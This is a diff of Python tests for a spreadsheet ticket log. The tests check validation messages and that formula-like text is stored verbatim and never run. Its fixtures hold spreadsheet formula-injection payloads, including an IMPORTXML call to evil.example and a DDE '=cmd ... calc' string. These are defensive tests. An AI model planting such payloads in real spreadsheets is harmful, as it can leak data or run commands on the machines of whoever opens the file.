@@ -66,32 +66,32 @@ def test_a_closed_entry_is_resolved_now_unless_given(any_log: LogUnderTest) -> N
     assert closed["Resolved At"] == "2025-11-14 10:00 UTC"
 
 
-@pytest.mark.parametrize(
-    ("values", "message"),
-    [
-        ({**ENTRY, "Custmer": "x"}, 'Custmer: "x" is not one of the template\'s columns'),
-        ({"Agent": "Maya", "Issue Summary": "x"}, 'Customer: "" is not filled in (required)'),
-        (
-            {**ENTRY, "Contact Start": "03/04/2025 10:00"},
-            'Contact Start: "03/04/2025 10:00" is not YYYY-MM-DD HH:MM UTC',
-        ),
-        ({**ENTRY, "Channel": "fax"}, 'Channel: "fax" is not one of "Live Chat", "Email"'),
-        ({**ENTRY, "Validation": "ok"}, 'Validation: "ok" is not left empty'),
-        (
-            {**ENTRY, "Contact Start": "2025-11-15 10:00 UTC", "Contact End": "2025-11-15 09:00Z"},
-            "Contact End",
-        ),
-    ],
-)
+BAD_INPUT = [
+    ({**ENTRY, "Custmer": "x"}, 'Custmer: "x" is not one of the template\'s columns'),
+    ({"Agent": "Maya", "Issue Summary": "x"}, 'Customer: "" is not filled in (required)'),
+    (
+        {**ENTRY, "Contact Start": "03/04/2025 10:00"},
+        'Contact Start: "03/04/2025 10:00" is not YYYY-MM-DD HH:MM UTC',
+    ),
+    ({**ENTRY, "Channel": "fax"}, 'Channel: "fax" is not one of "Live Chat", "Email"'),
+    ({**ENTRY, "Validation": "ok"}, 'Validation: "ok" is not left empty'),
+    (
+        {**ENTRY, "Contact Start": "2025-11-15 10:00 UTC", "Contact End": "2025-11-15 09:00Z"},
+        'Contact End: "2025-11-15 09:00Z" is not at or after Contact Start',
+    ),
+]
+
+
 def test_bad_input_names_column_value_and_format_and_writes_nothing(
-    any_log: LogUnderTest, values: dict[str, str], message: str
+    any_log: LogUnderTest,
 ) -> None:
     any_log.log.init()
     marker = any_log.write_marker()
-    with pytest.raises(InvalidInput) as caught:
-        any_log.log.append(values, now=NOW)
-    assert message in str(caught.value)
-    assert "\n" not in str(caught.value)
+    for values, message in BAD_INPUT:
+        with pytest.raises(InvalidInput) as caught:
+            any_log.log.append(values, now=NOW)
+        assert message in str(caught.value)
+        assert "\n" not in str(caught.value)
     assert any_log.write_marker() == marker
     assert any_log.values("Log") == [STANDARD.header]
 
@@ -117,47 +117,35 @@ def test_generated_ids_are_drawn_again_when_taken(monkeypatch: pytest.MonkeyPatc
     assert new_ticket_id(STANDARD, {"T-251115-00000"}, NOW) == "T-251115-7K3QZ"
 
 
-FORMULAS = [
-    '=HYPERLINK("http://x","y")',
-    '=IMPORTXML("http://evil.example/x","//a")',
-    "+1",
-    "-x",
-    "@x",
-    "=1+1",
-]
+TEXTS = {  # column: a value a spreadsheet would run as a formula if it were not kept as text
+    "Customer": "@x",
+    "Agent": "-x",
+    "Issue Summary": '=HYPERLINK("http://x","y")',
+    "Actions & Notes": '=IMPORTXML("http://evil.example/x","//a")',
+    "Follow-up Notes": "+1",
+}
 
 
-@pytest.mark.parametrize("text", FORMULAS)
-def test_text_that_looks_like_a_formula_is_stored_verbatim(
-    any_log: LogUnderTest, text: str
-) -> None:
+def test_text_that_looks_like_a_formula_is_stored_verbatim(any_log: LogUnderTest) -> None:
     any_log.log.init()
-    row = any_log.log.append(
-        {"Customer": text, "Agent": "Maya", "Issue Summary": text, "Actions & Notes": text}
-    )
+    row = any_log.log.append(TEXTS)
+    tabbed = any_log.log.append({**ENTRY, "Actions & Notes": "\t\r=cmd|' /C calc'!A0"})
+    assert tabbed["Actions & Notes"] == "=cmd|' /C calc'!A0"  # stripped, and text
     header = STANDARD.header
-    cells = any_log.values("Log")[1]
-    for column in ("Customer", "Issue Summary", "Actions & Notes"):
-        assert cells[header.index(column)] == text == row[column]
+    rows = any_log.values("Log")
+    for column, text in TEXTS.items():
+        assert rows[1][header.index(column)] == text == row[column]
+    assert rows[2][header.index("Actions & Notes")] == tabbed["Actions & Notes"]
     if any_log.fake is not None:
         grid = any_log.fake.grid(any_log.spreadsheet_id, "Log")
-        entered = grid[1][header.index("Issue Summary")]["userEnteredValue"]
-        assert entered == {"stringValue": text}  # no formulaValue: never run
+        for column, text in TEXTS.items():
+            entered = grid[1][header.index(column)]["userEnteredValue"]
+            assert entered == {"stringValue": text}  # no formulaValue: never run
     else:
         assert any_log.path is not None
         sheet = load_workbook(any_log.path)["Log"]
-        assert sheet.cell(row=2, column=header.index("Issue Summary") + 1).data_type == "s"
-
-
-def test_leading_tab_and_carriage_return_are_stripped_and_the_rest_stays_text(
-    any_log: LogUnderTest,
-) -> None:
-    any_log.log.init()
-    row = any_log.log.append({**ENTRY, "Actions & Notes": "\t\r=cmd|' /C calc'!A0"})
-    assert row["Actions & Notes"] == "=cmd|' /C calc'!A0"
-    assert (
-        any_log.values("Log")[1][STANDARD.header.index("Actions & Notes")] == row["Actions & Notes"]
-    )
+        for column in TEXTS:
+            assert sheet.cell(row=2, column=header.index(column) + 1).data_type == "s"
 
 
 def test_rows_land_below_the_last_content_row_from_column_a(any_log: LogUnderTest) -> None:
